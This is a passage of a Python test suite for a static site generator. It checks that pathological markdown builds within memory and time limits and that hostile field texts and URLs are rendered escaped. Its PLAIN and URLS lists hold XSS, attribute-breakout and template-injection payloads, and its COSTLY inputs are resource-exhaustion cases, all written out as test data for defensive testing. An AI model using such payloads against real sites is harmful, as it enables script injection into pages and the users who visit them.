    "footnotes in footnotes": "[^0]\n\n" + "".join(f"[^{n}]: [^{n + 1}]\n" for n in range(9_000)),
    "one footnote, many uses": "[^1]: b\n\n" + "[^1]\n\n" * 29_000,
    "one footnote, many uses in a line": "[^1]: b\n\n" + "[^1] " * 21_000,
    "footnotes by indentation": "".join(f"{'    ' * n}[^{n}]: b\n\n" for n in range(200)),
    "open footnotes": "[^" * 95_000,
    "tabs of code": "".join(f'```python tab="{n}"\na\n```\n' for n in range(6_500)),
    "exchanges": "```http\nGET /\n```\n```http\nHTTP/1.1 200 OK\n```\n" * 3_800,
    "figures": '![a](/b "c")\n\n' * 13_000,
    "images without words": "![](/b)\n\n" * 20_000,
    "headings of no name": "# ?\n\n" * 12_000,
    "headings with many marks": f"# {'#' * 190_000}",
    "underlined headings": "a\n=\n" * 47_000,
    "underlines": "=" * 190_000,
    "rules": "***\n" * 47_000,
    "rules with blanks": "- " * 90_000 + "\n",
    "almost rules": "* " * 90_000 + "a",
    "a wide table": "|a" * 30_000 + "\n" + "|-" * 30_000 + "\n" + "|\n" * 30_000,
    "a long table": "|a|b|\n|-|-|\n" + "|c|d|\n" * 30_000,
    "a table as large as may be": "|a" * 99 + "|\n" + "|-" * 99 + "|\n" + "|\n" * 500,
    "many tables": "|a|\n|-|\n|b|\n\n" * 12_000,
    "half tables": "|a|\n" * 47_000,
    "separators": "|-|\n" * 47_000,
    "pipes": "|" * 190_000,
    "pipes and code": "`|`" * 60_000,
    "open fences": "```\n\n" * 19_000,
    "fences": "```\na\n```\n" * 9_000,
    "fences of one language": "```python\na = 1\n```\n" * 9_000,
    "growing fences": "".join(f"{'`' * n}\n" for n in range(3, 600)),
    "tildes": "~" * 190_000,
    "long code": "```python\n" + "a = 'b'  # c\n" * 14_000 + "```",
    "code with open quotes": "```python\n" + "'''a\n" * 38_000 + "```",
    "code with open strings": "```javascript\n" + '"${' * 60_000 + "\n```",
    "code with brackets": "```json\n" + "[" * 180_000 + "\n```",
    "code with braces": "```json\n" + '{"a":' * 36_000 + "\n```",
    "code with tags": "```html\n" + "<a " * 60_000 + "\n```",
    "code with comments": "```css\n" + "/*" * 90_000 + "\n```",
    "code with dashes": "```sql\n" + "-- a\n/*" * 25_000 + "\n```",
    "code with slashes": "```javascript\n" + "/a" * 90_000 + "\n```",
    "code of every language": "".join(
        f"```{name}\n{MANY_LANGUAGES * 120}```\n\n"
        for name in (
            *("http", "json", "yaml", "bash", "python", "javascript", "typescript", "html", "xml", "css"),
            *("java", "kotlin", "csharp", "go", "rust", "ruby", "php", "sql", "graphql", "protobuf"),
            *("toml", "ini", "diff"),
        )
    ),
    "indented code": "    a\n\n" * 30_000,
    "blank lines": "\n" * 190_000,
    "blanks": " " * 190_000,
    "lines of blanks": "   \n" * 47_000,
    "tabs": "\t" * 190_000,
    "line ends": "a  \n" * 30_000,
    "lines": "a\n" * 95_000,
    "one line": "a" * 190_000,
    "words": "a " * 95_000,
    "paragraphs": "a\n\n" * 30_000,
    "combining marks": "a" + "\u0301" * 190_000,
    "other digits": "\u0661. a\n" * 38_000,
    "a mebibyte of text": "All work and no play. " * 47_000,
    "a mebibyte of brackets": "[" * 1_048_000,
    "a mebibyte of lines": "a\n" * 520_000,
}

SECONDS = 20
"""What one body may take of a processor: CONTRACT gives 10 s to a folder, and this desk may be a slow one."""

LIMITED = """
    import io, json, os, resource, sys, time
    from contextlib import redirect_stderr, redirect_stdout

    import crosswalk.build  # which `cli` imports no sooner than it is needed
    from crosswalk.cli import main

    def build(folder):
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
        resource.setrlimit(resource.RLIMIT_CPU, (SECONDS, SECONDS))
        err = io.StringIO()
        with redirect_stdout(io.StringIO()), redirect_stderr(err):
            code = main(["build", "--content", f"{folder}/content", "--output", f"{folder}/site"])
        seconds = time.process_time()
        with open(f"{folder}/result.json", "w") as result:
            json.dump([code, seconds, err.getvalue()], result)

    # A build without limits first: what it reads and compiles, the others find done.
    main(["build", "--content", f"{sys.argv[1]}/content", "--output", f"{sys.argv[1]}/site"])
    running = 0
    for folder in sys.argv[2:]:
        if running == 2:
            os.wait()
            running -= 1
        running += 1
        if os.fork() == 0:
            build(folder)
            os._exit(0)
    for _ in range(running):
        os.wait()
"""
"""Builds each of the folders named in a process of its own: a GiB of address space, SECONDS of time."""


@pytest.fixture(scope="module")
def costly(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The folder of each of COSTLY: `content`, and `site` and `result.json` if the build came to an end."""

    def make(root: Path) -> None:
        for name, body in COSTLY.items():
            write(root / _slug(name) / "content", {"topics/a.md": topic(body=body)})
        first = root / "first"
        write(first / "content", {"topics/a.md": topic(body="Plain.")})
        script = textwrap.dedent(LIMITED).replace("SECONDS", str(SECONDS))
        subprocess.run(
            [sys.executable, "-c", script, str(first), *(str(root / _slug(name)) for name in COSTLY)],
            env={"PYTHONPATH": str(SOURCES)},
            timeout=600,
            check=True,
        )

    root = made_once(tmp_path_factory, "costly", make)
    return {name: root / _slug(name) for name in COSTLY}


@pytest.mark.parametrize("name", COSTLY)
def test_a_costly_body_is_rendered_or_refused(costly: dict[str, Path], name: str) -> None:
    """In reasonable time and within a GiB; and nothing else is said of it."""
    result = costly[name] / "result.json"
    assert result.is_file(), f"not done in {SECONDS} s, or ended by a signal"
    code, _, stderr = json.loads(result.read_text())
    codes = set(re.findall(r"error\[([a-z-]+)\]", stderr))
    assert codes <= {"body-too-complex"}, stderr
    assert code == (1 if codes else 0), stderr
    assert "mistake in crosswalk" not in stderr
    assert (costly[name] / "site").exists() == (code == 0)


def test_a_refused_body_is_refused_alike_by_check_and_build(tmp_path: Path) -> None:
    """One diagnostic, in the file of the body, and the rest of the file is judged all the same."""
    files = {"topics/a.md": topic("title: 1", body="[" * 190_000), "topics/b.md": topic(id="b")}
    content = write(tmp_path / "content", files)
    checked = check(content)
    assert checked.stderr == build(content, tmp_path / "site").stderr
    assert sorted(found.code for found in checked.errors) == ["body-too-complex", "field-type"]
    assert all(found.path.endswith("topics/a.md") for found in checked.errors)
    assert max(map(len, checked.stderr.splitlines())) <= 1_000
    assert not (tmp_path / "site").exists()


# Texts of fields

UNREMARKABLE = "unremarkable"
"""A text that no page has of itself."""

PLAIN = {
    "a script": "<script>evil()</script>",
    "a way out of an attribute": """"' onmouseover="evil()" id='evil' x=">""",
    "a way out of a title": "</title></head><body onload=evil()><b id=evil>",
    "a way out of a script": "</script><script>evil()</script><!--<script>",
    "a way out of cdata": "]]><b id=evil><![CDATA[ ?> --> --!>",
    "a comment": "<!-- evil --> <!-->",
    "entities": "&lt;b&gt; &amp;lt; &amp;amp; &#60; &copy &notit; &",
    "markdown": "*a* **b** _c_ `d` [e](javascript:evil()) ![f](/g) # h > i - j | k | ~~l~~ <https://e.example>",
    "jinja": "{{ 8191*8191 }} {% include 'base.html' %} {# gone #} {{ cycler.__init__ }}",
    "erb": "<%= 8191*8191 %> ${8191*8191} #{8191*8191} {{{ evil }}} %(evil)s %s {0} {} \\1 \\g<0>",
    "backslashes": r"\ \\ \n \u003c \x3c \" \' C:\new \0",
    "quotes": """ "a" 'b' `c` “d” „e“ \u2039f\u203a """.strip(),
    "line separators": "a\u2028b\u2029c\u0085d",
    "other scripts": "العربية עברית 日本語 ไทย हिन्दी \u200fא\u200e",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 1️⃣ \U0001f1e9\U0001f1ea",
    "decomposed": "e\u0301 A\u030a \u1112\u1161\u11ab a\u0323\u0307",
    "white space": "a\u00a0b\u2003c\u3000d\u200be",
    "beyond": "\U0010fffd \ue000 \ufdd0 \ufffd \U0001d54f",
    "full width": "\uff1cscript\uff1e \uff02 \uff07 \uff06",
    "a formula": "=1+1 +1 -1 @x |calc",
    "JSON": '{"a": NaN, "b": Infinity, "a": 1} \\u2028 // /* */ null',
    "an address": "javascript:evil() data:text/html,evil https://e.example/?a=1&b=2",
    "one letter": "<",
    "names of templates": "page frame head site self loop config __class__ None null undefined",
}


def _pages_of(site: Path) -> dict[str, str]:
    """Return the pages of *site*; the names of categories, made of text, as numbers."""
    numbers: dict[str, str] = {}
    found = {}
    for path in sorted(site.rglob("*.html")):
        name = path.relative_to(site).as_posix()
        if name.startswith("design/categories/"):
            name = numbers.setdefault(name, f"category {len(numbers)}")
        found[name] = path.read_text(encoding="utf-8")
    return found


@cache
def _readings_of(site: Path) -> dict[str, Reading]:
    """Return the pages of *site* as our parser reads them."""
    return {path: Reading(html) for path, html in _pages_of(site).items()}


def _shape(page: Reading) -> list[tuple[str, tuple[str, ...]]]:
    """Return the elements of a page in their order, each with the names of its attributes."""
    return [(tag, tuple(attributes)) for tag, attributes in page.elements]


@pytest.fixture(scope="module")
def sites(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The site of content whose every text is one of PLAIN, or UNREMARKABLE; one build each."""
    root = tmp_path_factory.mktemp("texts")
    built = {}
    for number, (name, text) in enumerate({**PLAIN, "plain": UNREMARKABLE}.items()):
        folder = root / str(number)
        result = build(write(folder / "content", every_key(text)), folder / "site")
        assert result.code == 0, f"{name}: {result.stderr}"
        built[name] = folder / "site"
    return built


@pytest.mark.parametrize("name", PLAIN)
def test_texts_are_plain_whatever_is_in_them(sites: dict[str, Path], name: str) -> None:
    """A text changes no element and no attribute of any page, and stands there to the letter."""
    text = collapsed(PLAIN[name])
    plain_pages, pages = _readings_of(sites["plain"]), _pages_of(sites[name])
    assert set(pages) == set(plain_pages)
    for path, html in pages.items():
        reading, plain = Reading(html), plain_pages[path]
        assert not [*faults(reading.elements, plain.elements), *reading.strange], path
        if path == "api.html":  # which shows documents as JSON, escaped and highlighted as such
            continue
        assert _shape(reading) == _shape(plain), path
        assert collapsed(reading.text).count(text) >= collapsed(plain.text).count(UNREMARKABLE), path
        assert "67092481" not in html, path


@pytest.mark.parametrize("name", PLAIN)
def test_documents_hold_texts_to_the_letter(sites: dict[str, Path], name: str) -> None:
    """Every JSON file and every JSON-LD element is strict JSON and gives back what was written."""
    text, site = PLAIN[name], sites[name]
    for path in site.rglob("*.json"):
        document(site, str(path.relative_to(site)))
    item = document(site, "design/topics/t.json")
    assert [item[key] for key in ("name", "category", "description")] == [text] * 3
    guideline = document(site, "design/guidelines/g.json")
    assert [guideline[key] for key in ("title", "company", "type", "language")] == [text] * 4
    pair = document(site, "design/topics/t/guidelines.json")["items"][0]
    first, second = pair["references"]
    assert [first[key] for key in ("name", "quote", "document", "description")] == [text] * 4
    assert second["name"] == text
    linked = [part for html in _pages_of(site).values() for part in _linked_data(html)]
    assert linked
    assert any(text in _texts(part) for part in linked)


def test_other_files_are_well_formed_whatever_texts_hold(sites: dict[str, Path]) -> None:
    """XML parses; nothing of the content stands in the style sheet or among the rules for robots."""
    for name, site in sites.items():
        for path in site.rglob("*.xml"):
            expat.ParserCreate().Parse(path.read_bytes(), True)
        for file in ("assets/site.css", "robots.txt"):
            assert (site / file).read_bytes() == (sites["plain"] / file).read_bytes(), name


def _linked_data(html: str) -> Iterator[object]:
    # As a browser cuts it out: to the first `</script`.
    for match in re.finditer(r'<script type="application/ld\+json">(.*?)</script', html, re.DOTALL):
        yield json.loads(match[1], object_pairs_hook=_distinct, parse_constant=_no_constant)


def _distinct(pairs: list[tuple[str, object]]) -> dict[str, object]:
    assert len(dict(pairs)) == len(pairs), pairs
    return dict(pairs)


def _no_constant(name: str) -> None:
    raise AssertionError(f"{name} is no JSON")


def _texts(part: object) -> Iterator[str]:
    if isinstance(part, str):
        yield part
    elif isinstance(part, dict):
        for value in part.values():
            yield from _texts(value)
    elif isinstance(part, list):
        for value in part:
            yield from _texts(value)


def test_chromium_finds_nothing_in_texts_that_our_parser_did_not(
    sites: dict[str, Path], browser: Browser
) -> None:
    """The same by the rules of HTML 5."""
    pages = {(name, path): html for name, site in sites.items() for path, html in _pages_of(site).items()}
    shapes = {
        page: [(tag, tuple(attributes)) for tag, attributes in elements]
        for page, elements in read_by_chromium(browser, pages).items()
    }
    assert len(pages) == len(sites) * len(_pages_of(sites["plain"]))
    assert [page for page, shape in shapes.items() if shape != shapes["plain", page[1]]] == []


# Addresses in fields

URLS = [
    "https://bücher.example/straße?ä=ö#ü",
    "https://例え.テスト/パス",
    "https://xn--bcher-kva.example/",
    "https://[2001:db8::1]/x",
    "https://[::ffff:192.0.2.1]:8080/x",
    "http://192.0.2.1:80/",
    "HTTP://E.EXAMPLE/",
    "https://e.example:65535/a;b=c;d/e,f",
    "https://e.example/?a=1&b=2&amp;c=3&lt;=4&copy=5",
    "https://e.example/%22%3E%3Cscript%3Eevil()%3C/script%3E",
    "https://e.example/%27%20onclick=evil()",
    "https://e.example/a(b)c[d]{e}|f^g`h",
    "https://e.example/'onclick='evil()",
    'https://e.example/"onclick="evil()',
    "https://e.example/<script>evil()</script>",
    "https://e.example/{{8191*8191}}{%evil%}<%=8191*8191%>${x}",
    "https://e.example/#:~:text=evil,-x",
    "https://e.example/#javascript:evil()",
    "https://e.example/?u=javascript:evil()//",
    "https://e.example/*a*_b_`c`[d](e)",
    "https://e.example/@user/a@b:c",
    "https://e.example/~x/./../y//z",
    "https://e.example/\u200d\u0301é",
    "https://e.example/👩‍👩‍👧‍👦",
    "https://e.example/%E2%80%AE%00%0a",
    "https://e.example?x",
    "https://e.example#x",
    "https://e.example.:443",
    f"https://e.example/{'x' * 2_030}",
    f"https://{'a' * 63}.{'b' * 63}.{'c' * 63}.example/",
]

URL_KEYS = [
    *("guideline_url", "guideline_githubUrl", "guideline_companyUrl", "guideline_companyLogoUrl"),
    "guideline_screenshotUrl",
]


def _addressed(url: str, number: int) -> str:
    """Return a topic in which every key that holds an address holds *url*."""
    value = quoted(url)
    return topic(
        "topic_specs:",
        f"  - {{name: s, url: {value}}}",
        "topic_authors:",
        f"  - {{name: a, url: {value}}}",
        "guidelines:",
        f"  - guideline_id: g{number}",
        "    guideline_title: G",
        "    guideline_company: C",
        "    guideline_authors:",
        f"      - {{name: b, url: {value}}}",
        *(f"    {key}: {value}" for key in URL_KEYS),
        "    references:",
        f"      - {{name: r, url: {value}, archivedUrl: {value}}}",
        id=f"t{number}",
    )


@pytest.fixture(scope="module")
def addressed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site of a topic for each of URLS that is not refused."""
    folder = tmp_path_factory.mktemp("addresses")
    texts = {number: _addressed(url, number) for number, url in enumerate(URLS)}
    refused = {
        number
        for number, text in texts.items()
        if check(write(folder / f"alone/{number}", {"topics/t.md": text})).code
    }
    files = {f"topics/t{number}.md": text for number, text in texts.items() if number not in refused}
    built = build(write(folder / "content", files), folder / "site")
    assert built.code == 0, built.stderr
    return folder / "site"


@pytest.mark.parametrize("url", URLS, ids=shown)
def test_addresses_are_kept_to_the_letter_and_do_nothing_else(addressed: Path, url: str) -> None:
    """Every key that holds a URL, on both pages and in the documents."""
    number = URLS.index(url)
    assert (addressed / f"design/topics/t{number}.html").is_file(), "refused"
    for kind, name in (("topics", f"t{number}"), ("guidelines", f"g{number}")):
        html = (addressed / f"design/{kind}/{name}.html").read_text(encoding="utf-8")
        plain = (addressed / f"design/{kind}/{name[0]}0.html").read_text(encoding="utf-8")
        reading = Reading(html)
        assert not [*faults(reading.elements, Reading(plain).elements), *reading.strange], name
        assert url in [attributes.get("href") for _, attributes in reading.elements], name
        assert "67092481" not in html, name
    guideline = document(addressed, f"design/guidelines/g{number}.json")
    assert guideline["url"] == guideline["companyUrl"] == guideline["companyLogoUrl"] == url
    pairs = document(addressed, f"design/topics/t{number}/guidelines.json")["items"]
    assert pairs[0]["references"][0]["url"] == url
